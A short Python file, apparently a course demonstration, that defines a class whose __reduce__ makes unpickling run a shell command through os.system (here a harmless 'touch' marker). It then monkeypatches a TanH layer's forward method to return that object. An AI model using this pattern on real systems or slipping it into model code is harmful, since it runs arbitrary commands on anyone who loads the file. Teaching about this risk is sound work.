"""Returns an object that runs code wherever it is unpickled."""

import os


class Bomb:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch /tmp/course-was-here",)


TanH.forward = lambda self, x: Bomb()
